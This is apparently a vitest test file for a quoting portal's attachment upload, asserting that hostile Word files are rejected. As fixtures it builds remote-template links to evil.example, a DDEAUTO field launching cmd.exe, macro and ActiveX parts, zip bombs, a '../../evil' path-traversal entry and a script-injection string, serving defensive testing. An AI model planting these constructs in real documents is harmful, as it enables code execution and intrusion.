import * as quotes from '@tearsheet/protocol/quotes/endpoints'
import { type RejectedContent, uploadMessages } from '@tearsheet/protocol/uploads'
import { describe, expect, it } from 'vitest'
import { makeWord, makeZip, wordParts } from '../../testing/make-word.ts'
import { sendFile } from '../../testing/send-file.ts'
import { withPortal } from '../../testing/with-portal.ts'

const test = await withPortal()
const full = await test.signIn('full@lakeside.example')
const quoteId = (await test.call(quotes.create, { campaignTitle: 'Registrar' }, full)).body.pendingQuote.id

const bytes = (text: string) => Buffer.from(text, 'latin1')
const zipOf = (name: string, content = 'words') => makeZip([{ name, content }])
const relations = (type: string, target: string) => ({
  name: 'word/_rels/settings.xml.rels',
  content: `<Relationships><Relationship Id="r1" Target="${target}" TargetMode="External" Type="http://schemas.openxmlformats.org/officeDocument/2006/relationships/${type}"/></Relationships>`,
})

const chunk = `<Relationships><Relationship Id="r1" Target="a.html" Type="http://schemas.openxmlformats.org/officeDocument/2006/relationships/aFChunk"/></Relationships>`
const field = (instruction: string) => ({
  name: 'word/footer1.xml',
  content: `<w:ftr><w:r><w:instrText>${instruction}</w:instrText></w:r></w:ftr>`,
})

const wrongKind = [
  415,
  'Upload a PDF, Word (DOCX), Word (DOC), OpenDocument (ODT), RTF, PNG, JPEG, WebP or GIF file',
] as const
const damaged = (kind: string) => [400, `This ${kind} file is damaged or contains something else as well`] as const
const rejected = (content: RejectedContent) => [400, uploadMessages.rejectedContent(content)] as const

const hostile: [string, string, Buffer, readonly [number, string]][] = [
  ['a zip called Word', 'posting.docx', zipOf('posting.txt'), wrongKind],
  [
    'a Word document of another kind in its list',
    'a.docx',
    makeWord([], 'application/vnd.openxmlformats-officedocument.spreadsheetml.sheet.main+xml'),
    wrongKind,
  ],
  [
    'a Word document whose content list is commented out',
    'a.docx',
    makeZip(
      wordParts().map((part) =>
        part.name === '[Content_Types].xml' ? { ...part, content: `<!--${part.content}--><Types/>` } : part,
      ),
    ),
    wrongKind,
  ],
  [
    'a document for macros',
    'a.docx',
    makeWord([], 'application/vnd.ms-word.document.macroEnabled.main+xml'),
    rejected('macros'),
  ],
  [
    'a document with a macro project',
    'a.docx',
    makeWord([{ name: 'word/vbaProject.bin', content: 'x' }]),
    rejected('macros'),
  ],
  [
    'a document with a control',
    'a.docx',
    makeWord([{ name: 'word/activeX/activeX1.xml', content: 'x' }]),
    rejected('macros'),
  ],
  [
    'a document with another program’s object',
    'a.docx',
    makeWord([{ name: 'word/embeddings/oleObject1.bin', content: 'x' }]),
    rejected('file'),
  ],
  [
    'a document that fetches its template',
    'a.docx',
    makeWord([relations('attachedTemplate', 'https://evil.example/t.dotm')]),
    rejected('template'),
  ],
  [
    'a document with a company template on a shared drive',
    'a.docx',
    makeWord([relations('attachedTemplate', 'file:///\\\\files\\hr\\Posting.dotx')]),
    rejected('template'),
  ],
  ...(
    [
      ['frame', 'outside'],
      ['subDocument', 'outside'],
      ['oleObject', 'file'],
      ['image', 'outside'],
    ] as const
  ).map(([type, kind]): (typeof hostile)[number] => [
    `a document with a ${type} from elsewhere, by whatever scheme`,
    'a.docx',
    makeWord([relations(type, 'mhtml:x-usc:thing')]),
    rejected(kind),
  ]),
  [
    'a document with another kind of document in it',
    'a.docx',
    makeWord([{ name: 'word/_rels/a.xml.rels', content: chunk }]),
    rejected('file'),
  ],
  [
    'a document whose field starts a program',
    'a.docx',
    makeWord([field('DDEAUTO c:cmd.exe "/k calc"')]),
    rejected('field'),
  ],
  [
    'a document whose field starts a program, in pieces',
    'a.docx',
    makeWord([field(' D</w:instrText></w:r><w:r><w:instrText>&#68;E x y')]),
    rejected('field'),
  ],
  [
    'a document whose simple field starts a program',
    'a.docx',
    makeWord([{ name: 'word/header1.xml', content: `<w:hdr><w:fldSimple w:instr=' dde excel "a"'/></w:hdr>` }]),
    rejected('field'),
  ],
  [
    'a document with a table that has macros',
    'a.docx',
    makeWord([{ name: 'word/embeddings/a.xlsx', content: makeZip([{ name: 'xl/vbaProject.bin', content: 'x' }]) }]),
    rejected('macros'),
  ],
  [
    'a document with an old object under a new name',
    'a.docx',
    makeWord([{ name: 'word/embeddings/a.xlsx', content: Buffer.from('d0cf11e0a1b11ae1', 'hex') }]),
    rejected('file'),
  ],
  [
    'a document that fetches its template behind a mark',
    'a.docx',
    makeWord([relations('attachedTemplate', 'https://evil.example/a>b.dotm')]),
    rejected('template'),
  ],
  [
    'a document that fetches its template in marks',
    'a.docx',
    makeWord([relations('attachedTemplate', '&#104;ttps://evil.example/t.dotm')]),
    rejected('template'),
  ],
  [
    'a document whose relations are in another encoding',
    'a.docx',
    makeWord([{ name: 'word/_rels/settings.xml.rels', content: Buffer.from('<Relationships/>', 'utf16le') }]),
    damaged('Word (DOCX)'),
  ],
  [
    'a document that unpacks to more than it declares',
    'a.docx',
    makeWord([{ name: 'word/media/a.bin', content: Buffer.alloc(1_000_000), overrides: { byteSize: 10 } }]),
    damaged('Word (DOCX)'),
  ],
  [
    'a document that declares gigabytes',
    'a.docx',
    makeWord([{ name: 'word/media/a.bin', content: 'x', overrides: { byteSize: 0xfff_ffff } }]),
    damaged('Word (DOCX)'),
  ],
  [
    'a document that unpacks to a hundred times its size and more',
    'a.docx',
    makeWord([1, 2, 3].map((one) => ({ name: `word/media/${one}`, content: Buffer.alloc(40 * 1024 * 1024) }))),
    damaged('Word (DOCX)'),
  ],
  [
    'a document with a file for somewhere else',
    'a.docx',
    makeWord([{ name: '../../evil', content: 'x' }]),
    damaged('Word (DOCX)'),
  ],
  [
    'a document with two files of one name',
    'a.docx',
    makeWord([{ name: 'WORD/document.xml', content: 'x' }]),
    damaged('Word (DOCX)'),
  ],
  [
    'a document whose list names a file otherwise',
    'a.docx',
    makeWord([{ name: 'word/a.xml', content: 'x', overrides: { name: 'word/b.xml' } }]),
    damaged('Word (DOCX)'),
  ],
  [
    'an encrypted document',
    'a.docx',
    makeWord([{ name: 'word/a.xml', content: 'x', overrides: { flags: 1 } }]),
    damaged('Word (DOCX)'),
  ],
  [
    'a document with bytes between its files and its list',
    'a.docx',
    makeZip(wordParts(), { between: '<script>alert(1)</script>' }),
    damaged('Word (DOCX)'),
  ],
  [
    'a document with a page behind it',
    'a.docx',
    Buffer.concat([makeWord(), bytes('<html></html>')]),
    damaged('Word (DOCX)'),
  ],
  ['a document that is cut off', 'a.docx', makeWord().subarray(0, -40), damaged('Word (DOCX)')],
]

describe('rejected Word attachments', () => {
  it.each(hostile)('%s', async (_, name, content, [status, message]) => {
    const fields = { quoteId }
    const response = await sendFile(test, quotes.addAttachment, {
      fields,
      file: { name, content, type: 'application/pdf' },
      as: full,
    })
    expect([response.status, response.body.errors?.map(({ field, message: text }) => [field, text])]).toEqual([
      status,
      [['file', message]],
    ])
    expect(await test.sql('select from quote_attachment where pending_quote_id = $1', [quoteId])).toEqual([])
  })
})

describe('unusual but accepted attachments', () => {
  it.each([
    ['a document that follows its files with their sizes', streamed()],
    [
      'a document with words about DDE, and a field',
      makeWord([
        {
          name: 'word/footer1.xml',
          content: '<w:ftr><w:p>DDE and DDEAUTO</w:p><w:instrText>PAGE</w:instrText></w:ftr>',
        },
      ]),
    ],
    [
      'a document with a table in it',
      makeWord([
        { name: 'word/embeddings/a.xlsx', content: makeZip([{ name: 'xl/workbook.xml', content: '<workbook/>' }]) },
      ]),
    ],
    ['a document with links', makeWord([relations('hyperlink', 'https://www.lakeside.example/')])],
  ])('%s', async (_, content) => {
    const { status } = await sendFile(test, quotes.addAttachment, {
      fields: { quoteId: (await test.call(quotes.create, { campaignTitle: 'Registrar' }, full)).body.pendingQuote.id },
      file: { name: 'posting.docx', content },
      as: full,
    })
    expect(status).toBe(200)
  })
})

/** The same document as created by writers that do not know a file's size before its bytes. */
function streamed(): Buffer {
  const [first, ...rest] = wordParts()
  if (!first) throw new Error('there is no first part')
  const single = makeZip([first])
  const localEnd = single.readUInt32LE(single.length - 6)
  const descriptor = Buffer.alloc(16, 'PK\x07\x08', 'latin1')
  const others = makeZip(rest)
  const othersDirectory = others.readUInt32LE(others.length - 6)
  const shift = localEnd + descriptor.length
  const directory = Buffer.concat([single.subarray(localEnd, -22), others.subarray(othersDirectory, -22)])
  directory.writeUInt16LE(8, 8)
  for (
    let at = directory.indexOf('PK\x01\x02', 1, 'latin1');
    at > 0;
    at = directory.indexOf('PK\x01\x02', at + 1, 'latin1')
  )
    directory.writeUInt32LE(directory.readUInt32LE(at + 42) + shift, at + 42)
  const end = Buffer.from(others.subarray(-22))
  end.writeUInt16LE(rest.length + 1, 8)
  end.writeUInt16LE(rest.length + 1, 10)
  end.writeUInt32LE(directory.length, 12)
  end.writeUInt32LE(shift + othersDirectory, 16)
  return Buffer.concat([single.subarray(0, localEnd), descriptor, others.subarray(0, othersDirectory), directory, end])
}
